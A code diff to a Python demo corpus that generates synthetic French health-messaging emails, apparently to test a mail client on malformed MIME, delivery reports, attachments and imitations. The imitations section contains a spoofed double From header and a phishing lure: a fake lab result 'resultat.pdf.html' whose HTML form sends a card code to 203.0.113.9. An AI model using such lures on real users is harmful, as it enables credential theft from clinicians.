@@ -10,8 +10,13 @@ from mssclient.demo.corpus.pictures import shipped
 
 __all__ = ["drafts"]
 
+_AUTOMATIC = (("Auto-Submitted", "auto-replied"),)
 _POSTMASTER = Person(
-    "mes", "Mon espace santé", "postmaster@patient.mssante.fr", trust="mssante", kind="organisational"
+    "postmaster",
+    "Système de distribution",
+    "mailer-daemon@medecin.mssante.fr",
+    trust="mssante",
+    kind="organisational",
 )
 
 
@@ -37,23 +42,58 @@ def _broken(calendar: Calendar) -> list[Draft]:
         b'--=_cesure\r\nContent-Type: text/plain; charset="utf-8"\r\n\r\n'
         + "Bonjour, le courrier est en pièce jointe. L’envoi a été coupé.\r\n".encode()
         + b'\r\n--=_cesure\r\nContent-Type: application/pdf; name="courrier.pdf"\r\n'
-        + b"Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=courrier.pdf\r\n\r\n"
+        + b"Content-Transfer-Encoding: base64\r\n"
+        + b"Content-Disposition: attachment; filename=courrier.pdf\r\n\r\n"
         + part.body[: len(part.body) // 2]
     )
     eight = "Bonjour, le patient est rentré chez lui, tout va bien. À bientôt.\r\n".encode("cp1252")
     nested = (
-        b"--b1\r\nContent-Type: multipart/alternative; boundary=b1\r\n\r\n--b1\r\nContent-Type: text/plain\r\n\r\n"
+        b"--b1\r\nContent-Type: multipart/alternative; boundary=b1\r\n\r\n--b1\r\nContent-Type: "
+        b"text/plain\r\n\r\n"
         b"Partie dont la limite est celle de son parent.\r\n--b1--\r\n"
     )
     rows = (
-        ("b-cut", 10, "21:40", "multipart-without-end", PEOPLE["ortho"], "Courrier (incomplet)",
-         'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="=_cesure"', cut),
-        ("b-eight", 41, "08:22", "undeclared-eight-bit", PEOPLE["glycines"], "Retour de M. FERRAND", "", eight),
-        ("b-noboundary", 77, "15:05", "multipart-without-boundary", PEOPLE["had"], "Passage du jour",
-         "MIME-Version: 1.0\nContent-Type: multipart/mixed", b"Texte sans limite de parties.\r\n"),
-        ("b-sameboundary", 135, "10:51", "multipart-boundary-twice", PEOPLE["msp"], "Planning",
-         "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b1", nested),
-    )  # fmt: skip
+        (
+            "b-cut",
+            10,
+            "21:40",
+            "multipart-without-end",
+            PEOPLE["ortho"],
+            "Courrier (incomplet)",
+            'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="=_cesure"',
+            cut,
+        ),
+        (
+            "b-eight",
+            41,
+            "08:22",
+            "undeclared-eight-bit",
+            PEOPLE["glycines"],
+            "Retour de M. FERRAND",
+            "",
+            eight,
+        ),
+        (
+            "b-noboundary",
+            77,
+            "15:05",
+            "multipart-without-boundary",
+            PEOPLE["had"],
+            "Passage du jour",
+            "MIME-Version: 1.0\nContent-Type: multipart/mixed",
+            b"Texte sans limite de parties.\r\n",
+        ),
+        (
+            "b-sameboundary",
+            135,
+            "10:51",
+            "multipart-boundary-twice",
+            PEOPLE["msp"],
+            "Planning",
+            "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b1",
+            nested,
+        ),
+    )
     made: list[Draft] = []
     for key, days, clock, shape, sender, subject, head, body in rows:
         top = f"From: {sender.address}\nSubject: {subject}\n{head}".rstrip("\n")
@@ -66,6 +106,7 @@ def _broken(calendar: Calendar) -> list[Draft]:
                 subject=subject,
                 raw=_raw(calendar, days, clock, key, top, body),
                 shape=f"broken-{shape}",
+                labels=Labels(documents=("pdf",) if key == "b-cut" else ()),  # half a file, still a PDF
                 small=days < 20,
             )
         )
@@ -75,7 +116,8 @@ def _broken(calendar: Calendar) -> list[Draft]:
 def _imitations(calendar: Calendar) -> list[Draft]:
     sauvignet = PEOPLE["sauvignet"]
     two = (
-        f"From: {sauvignet.address}\nFrom: facturation@cardio-reglement.example\nSubject: Honoraires en attente\n"
+        f"From: {sauvignet.address}\nFrom: facturation@cardio-reglement.example\nSubject: Honoraires "
+        "en attente\n"
         "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8"
     )
     body = (
@@ -89,13 +131,15 @@ def _imitations(calendar: Calendar) -> list[Draft]:
             sender=PEOPLE["spoof_labo"],
             subject="Résultats – patient à identifier",
             text=(
-                "Bonjour,\n\nUn résultat urgent vous attend. Ouvrez le document joint et saisissez votre code porteur "
+                "Bonjour,\n\nUn résultat urgent vous attend. Ouvrez le document joint et saisissez "
+                "votre code porteur "
                 "pour l’afficher.\n\nLaboratoire Valvert\n"
             ),
             attachments=[
                 mime.attachment(
                     "resultat.pdf.html",
-                    b"<html><body><form action='http://203.0.113.9/'><input name='code'></form></body></html>\r\n",
+                    b"<html><body><form action='http://203.0.113.9/'><input "
+                    b"name='code'></form></body></html>\r\n",
                     "text/html",
                 )
             ],
@@ -125,7 +169,8 @@ def _reports() -> list[Draft]:
         "report",
         [
             mime.text(
-                "Message non distribué\n\nVotre message n’a pas pu être remis : la boîte aux lettres de ce patient est "
+                "Message non distribué\n\nVotre message n’a pas pu être remis : la boîte aux lettres "
+                "de ce patient est "
                 "clôturée.\n"
             ),
             _report_part(
@@ -162,59 +207,146 @@ def _reports() -> list[Draft]:
                 "message/disposition-notification",
                 f"Reporting-UA: passerelle; Integration\nFinal-Recipient: rfc822;{PEOPLE['pneumo'].address}\n"
                 f"Original-Message-ID: {message_id('tissot-answer')}\n"
-                "Disposition: automatic-action/MDN-sent-automatically; processed/Error: 902^Patient inconnu\n",
+                "Disposition: automatic-action/MDN-sent-automatically; processed/Error: 902^Patient "
+                "inconnu\n",
             ),
         ],
         "rep_mdn_0002",
         ";\r\n report-type=disposition-notification",
     )
     return [
-        Draft(key="r-bounce", days=81, clock="12:24", sender=_POSTMASTER, subject="Message non distribué",
-              content=bounce, headers=[("Auto-Submitted", "auto-replied")], shape="bounce-mes"),
-        Draft(key="r-displayed", days=64, clock="18:36", sender=PEOPLE["dumontel"],
-              subject="Lu : Avis diabétologique", content=receipt, answers=["sent-endocrino-chappuis"],
-              headers=[("Auto-Submitted", "auto-replied")], shape="mdn-displayed"),
-        Draft(key="r-refused", days=0, clock="10:02", sender=PEOPLE["pneumo"],
-              subject="[KO Intégration système !][902] XDM/1.0/DDM+CR hospitalisation – M. TISSOT", content=refused,
-              answers=["tissot-answer"], headers=[("Auto-Submitted", "auto-replied")], shape="mdn-not-integrated",
-              small=True),
-    ]  # fmt: skip
+        Draft(
+            key="r-bounce",
+            days=81,
+            clock="12:24",
+            sender=_POSTMASTER,
+            subject="Message non distribué",
+            content=bounce,
+            headers=_AUTOMATIC,
+            bounce=True,
+            shape="bounce-mes",
+        ),
+        Draft(
+            key="r-displayed",
+            days=64,
+            clock="18:36",
+            sender=PEOPLE["dumontel"],
+            subject="Lu : Avis diabétologique",
+            content=receipt,
+            answers=["sent-endocrino-chappuis"],
+            headers=_AUTOMATIC,
+            bounce=True,
+            shape="mdn-displayed",
+        ),
+        Draft(
+            key="r-refused",
+            days=0,
+            clock="10:02",
+            sender=PEOPLE["pneumo"],
+            subject="[KO Intégration système !][902] XDM/1.0/DDM+CR hospitalisation – M. TISSOT",
+            content=refused,
+            answers=["tissot-answer"],
+            headers=_AUTOMATIC,
+            bounce=True,
+            shape="mdn-not-integrated",
+            small=True,
+        ),
+    ]
 
 
 def _enclosures(calendar: Calendar) -> list[Draft]:
     lantelme, ambrosi = PEOPLE["lantelme"], PEOPLE["ambrosi"]
     inner = written(
-        Draft(key="e-eml-inner", days=46, clock="12:31", sender=PEOPLE["imagerie"], subject="Écho-Doppler artériel",
-              text="Docteur,\n\nDoppler artériel des membres inférieurs normal. IPS à 1,02 à droite, 0,98 à gauche.\n"),
+        Draft(
+            key="e-eml-inner",
+            days=46,
+            clock="12:31",
+            sender=PEOPLE["imagerie"],
+            subject="Écho-Doppler artériel",
+            text="Docteur,\n\nDoppler artériel des membres inférieurs normal. "
+            "IPS à 1,02 à droite, 0,98 à gauche.\n",
+        ),
         calendar,
-    )  # fmt: skip
+    )
     planning = "jour;matin;après-midi\nlundi;Aubry;Valade\nmardi;Aubry;Aubry\nmercredi;Valade;fermé\n"
     return [
-        Draft(key="e-vcard", days=33, clock="09:47", sender=ambrosi, subject="Mes nouvelles coordonnées",
-              text=f"Chers confrères,\n\nJe change de cabinet : carte jointe.\n\n{ambrosi.signature}\n",
-              attachments=[mime.attachment("Étienne Ambrosi.vcf", enclosures.vcard(ambrosi), "text/vcard")],
-              shape="vcard"),
-        Draft(key="e-ecg", days=24, clock="15:12", sender=PEOPLE["montand"], subject="ECG d’une patiente commune",
-              text="Camille,\n\nTracé de ce matin, pouls irrégulier. Tu confirmes ?\n\nÉtienne\n",
-              attachments=[mime.attachment("ecg.png", shipped("ecg.png"), "image/png")], shape="picture-png"),
-        Draft(key="e-eml", days=46, clock="14:03", sender=PEOPLE["coursan"], subject="Tr : Écho-Doppler artériel",
-              text="Docteur,\n\nJe vous transfère ce que j’ai reçu par erreur.\n\nMathilde Coursan\n",
-              attachments=[mime.forwarded(inner, "Écho-Doppler artériel.eml")], shape="forwarded-message"),
-        Draft(key="e-txt", days=52, clock="11:08", sender=PEOPLE["msp"], subject="Planning des salles",
-              text="Bonjour,\n\nCi-joint le planning des salles.\n",
-              attachments=[mime.attachment("planning.txt", planning.encode("utf-8"), "text/plain")], shape="text-file"),
-        Draft(key="e-naevus", days=57, clock="13:38", sender=lantelme, subject="Dermoscopie – Mme CHARVIN Émilie",
-              text=f"Chère consœur,\n\nImage de la lésion avant l’exérèse.\n\n{lantelme.signature}\n",
-              html="<p>Chère consœur,</p><p>Image de la lésion avant l’exérèse&nbsp;:</p>"
-                   '<p><img src="cid:dermoscopie@messagerie.demonstration" width="450" height="450"></p>'
-                   "<p>Dr Maud LANTELME</p>",
-              inline=[mime.attachment("dermoscopie.jpg", shipped("naevus.jpg"), "image/jpeg", disposition="inline",
-                                      content_id="dermoscopie@messagerie.demonstration")],
-              shape="html-inline-picture"),
-        Draft(key="e-scan", days=96, clock="17:17", sender=PEOPLE["had"], subject="Ordonnance signée",
-              text="Docteur,\n\nVotre ordonnance nous est bien parvenue, copie jointe.\n",
-              attachments=[mime.attachment("numérisation 0012.pdf",
-                                           enclosures.scanned_page(shipped("ordonnance_scan.jpg"), 1240, 1754),
-                                           "application/pdf")],
-              flags=(SEEN, "Classe"), shape="pdf-scanned", labels=Labels(documents=("pdf",))),
-    ]  # fmt: skip
+        Draft(
+            key="e-vcard",
+            days=33,
+            clock="09:47",
+            sender=ambrosi,
+            subject="Mes nouvelles coordonnées",
+            text=f"Chers confrères,\n\nJe change de cabinet : carte jointe.\n\n{ambrosi.signature}\n",
+            attachments=[mime.attachment("Étienne Ambrosi.vcf", enclosures.vcard(ambrosi), "text/vcard")],
+            shape="vcard",
+        ),
+        Draft(
+            key="e-ecg",
+            days=24,
+            clock="15:12",
+            sender=PEOPLE["montand"],
+            subject="ECG d’une patiente commune",
+            text="Camille,\n\nTracé de ce matin, pouls irrégulier. Tu confirmes ?\n\nÉtienne\n",
+            attachments=[mime.attachment("ecg.png", shipped("ecg.png"), "image/png")],
+            shape="picture-png",
+        ),
+        Draft(
+            key="e-eml",
+            days=46,
+            clock="14:03",
+            sender=PEOPLE["coursan"],
+            subject="Tr : Écho-Doppler artériel",
+            text="Docteur,\n\nJe vous transfère ce que j’ai reçu par erreur.\n\nMathilde Coursan\n",
+            attachments=[mime.forwarded(inner, "Écho-Doppler artériel.eml")],
+            shape="forwarded-message",
+        ),
+        Draft(
+            key="e-txt",
+            days=52,
+            clock="11:08",
+            sender=PEOPLE["msp"],
+            subject="Planning des salles",
+            text="Bonjour,\n\nCi-joint le planning des salles.\n",
+            attachments=[mime.attachment("planning.txt", planning.encode("utf-8"), "text/plain")],
+            shape="text-file",
+        ),
+        Draft(
+            key="e-naevus",
+            days=57,
+            clock="13:38",
+            sender=lantelme,
+            subject="Dermoscopie – Mme CHARVIN Émilie",
+            text=f"Chère consœur,\n\nImage de la lésion avant l’exérèse.\n\n{lantelme.signature}\n",
+            html="<p>Chère consœur,</p><p>Image de la lésion avant l’exérèse&nbsp;:</p>"
+            '<p><img src="cid:dermoscopie@messagerie.demonstration" width="450" height="450"></p>'
+            "<p>Dr Maud LANTELME</p>",
+            inline=[
+                mime.attachment(
+                    "dermoscopie.jpg",
+                    shipped("naevus.jpg"),
+                    "image/jpeg",
+                    disposition="inline",
+                    content_id="dermoscopie@messagerie.demonstration",
+                )
+            ],
+            shape="html-inline-picture",
+        ),
+        Draft(
+            key="e-scan",
+            days=96,
+            clock="17:17",
+            sender=PEOPLE["had"],
+            subject="Ordonnance signée",
+            text="Docteur,\n\nVotre ordonnance nous est bien parvenue, copie jointe.\n",
+            attachments=[
+                mime.attachment(
+                    "numérisation 0012.pdf",
+                    enclosures.scanned_page(shipped("ordonnance_scan.jpg"), 1240, 1754),
+                    "application/pdf",
+                )
+            ],
+            flags=(SEEN, "Classe"),
+            shape="pdf-scanned",
+            labels=Labels(documents=("pdf",)),
+        ),
+    ]
